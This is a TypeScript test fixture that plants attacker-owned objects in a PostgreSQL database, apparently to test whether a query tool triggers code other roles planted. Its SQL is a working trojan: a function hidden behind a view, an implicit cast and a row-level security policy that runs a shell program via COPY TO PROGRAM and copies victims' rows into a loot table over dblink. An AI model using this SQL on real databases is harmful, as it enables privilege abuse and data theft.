import { existsSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type pg from "pg";

/**
 * Code another role planted, as issue 25 found it: an ordinary role (`attacker`) with CREATE on its own schema makes a
 * plpgsql function that runs `COPY (SELECT current_user) TO PROGRAM 'cat >> <file>'` and, through dblink on a
 * connection of its own, copies every row of `victimTable` the caller can see into its `loot` table — and brings it
 * along with objects other roles read: a view (`v_sales`), a composite type with an implicit cast to text (`money2`,
 * read by `lower(amt)` or a sample of the column `ledger.amt`) and a table whose row-level security policy calls it
 * (`accounts`). All are readable by PUBLIC. `dblink_connect_u` is granted to PUBLIC, which stands for a server with
 * password authentication (where plain `dblink_connect` with the attacker's password does the same).
 */
export interface PlantedCodeWorld {
  /** The attacker's schema. */
  readonly schema: string;
  /** The file `COPY … TO PROGRAM` appends to (server side; this machine's /tmp). */
  readonly filePath: string;
  /** Whether the file exists (the planted code ran as a role allowed to run programs). */
  fileWritten(): boolean;
  /** Rows in the attacker's loot table (the planted code ran, as any role), read by `observer` (a superuser). */
  lootRows(observer: pg.Client): Promise<Array<{ who: string; leaked: string | null }>>;
  /** Removes the file and empties the loot table. */
  reset(observer: pg.Client): Promise<void>;
}

export interface PlantedCodeOptions {
  /** The planting role (must exist, LOGIN; not a superuser). */
  readonly attacker: string;
  /** The database the objects are planted in. */
  readonly database: string;
  /** Host and port the planted dblink connection uses. Default 127.0.0.1:5432. */
  readonly host?: string;
  readonly port?: number;
  /** A table the planted code copies out as whoever runs it (row-level security applies). Default none. */
  readonly victimTable?: string;
  /** A suffix making the file name unique. */
  readonly suffix: string;
  /** The attacker's schema. Default `att`. */
  readonly schema?: string;
}

const literal = (text: string) => `'${text.replaceAll("'", "''")}'`;

/** The SQL that plants the objects (run as a superuser in `options.database`). */
export function plantedCodeSql(options: PlantedCodeOptions, filePath: string): string {
  const schema = options.schema ?? "att";
  const connection = `dbname=${options.database} host=${options.host ?? "127.0.0.1"} port=${options.port ?? 5432} user=${options.attacker}`;
  const victim = options.victimTable;
  const payload = victim
    ? `SELECT pg_catalog.string_agg(pg_catalog.format('(%L, %L)', current_user, x::text), ',') INTO rows FROM ${victim} x;`
    : "";
  return `
    CREATE EXTENSION IF NOT EXISTS dblink SCHEMA public;
    GRANT EXECUTE ON FUNCTION public.dblink_connect_u(text, text) TO PUBLIC;
    CREATE SCHEMA ${schema} AUTHORIZATION ${options.attacker};
    GRANT USAGE ON SCHEMA ${schema} TO PUBLIC;
    SET ROLE ${options.attacker};
    CREATE TABLE ${schema}.loot (who text, leaked text);
    CREATE FUNCTION ${schema}.f() RETURNS text VOLATILE LANGUAGE plpgsql AS $planted$
    DECLARE rows text;
    BEGIN
      BEGIN
        EXECUTE pg_catalog.format('COPY (SELECT current_user) TO PROGRAM %L', ${literal(`cat >> ${filePath}`)});
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      BEGIN
        ${payload}
        PERFORM public.dblink_connect_u('nlq_planted', ${literal(connection)});
        PERFORM public.dblink_exec('nlq_planted', 'INSERT INTO ${schema}.loot VALUES '
          || COALESCE(rows, pg_catalog.format('(%L, NULL)', current_user)));
        PERFORM public.dblink_disconnect('nlq_planted');
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      RETURN 'north';
    END $planted$;
    CREATE VIEW ${schema}.v_sales AS SELECT ${schema}.f() AS region, 1 AS total;
    CREATE TYPE ${schema}.money2 AS (amount numeric);
    CREATE FUNCTION ${schema}.m2t(${schema}.money2) RETURNS text VOLATILE LANGUAGE plpgsql
      AS $planted$ BEGIN PERFORM ${schema}.f(); RETURN ($1).amount::text; END $planted$;
    CREATE CAST (${schema}.money2 AS text) WITH FUNCTION ${schema}.m2t(${schema}.money2) AS IMPLICIT;
    CREATE TABLE ${schema}.ledger (id integer, amt ${schema}.money2);
    INSERT INTO ${schema}.ledger VALUES (1, ROW(5)), (2, ROW(7));
    CREATE TABLE ${schema}.accounts (id integer, label text);
    INSERT INTO ${schema}.accounts VALUES (1, 'first');
    ALTER TABLE ${schema}.accounts ENABLE ROW LEVEL SECURITY;
    CREATE POLICY accounts_seen ON ${schema}.accounts FOR SELECT USING (${schema}.f() IS NOT NULL);
    GRANT SELECT ON ${schema}.v_sales, ${schema}.ledger, ${schema}.accounts TO PUBLIC;
    RESET ROLE;`;
}

/** Plants the objects of `PlantedCodeWorld` with `admin` (a superuser connected to `options.database`). */
export async function plantCode(admin: pg.Client, options: PlantedCodeOptions): Promise<PlantedCodeWorld> {
  const schema = options.schema ?? "att";
  const filePath = join(tmpdir(), `nlq-planted-${options.suffix}.txt`);
  rmSync(filePath, { force: true });
  await admin.query(plantedCodeSql(options, filePath));
  return {
    schema,
    filePath,
    fileWritten: () => existsSync(filePath),
    async lootRows(observer) {
      return (await observer.query(`SELECT who, leaked FROM ${schema}.loot`)).rows;
    },
    async reset(observer) {
      rmSync(filePath, { force: true });
      await observer.query(`TRUNCATE ${schema}.loot`);
    },
  };
}
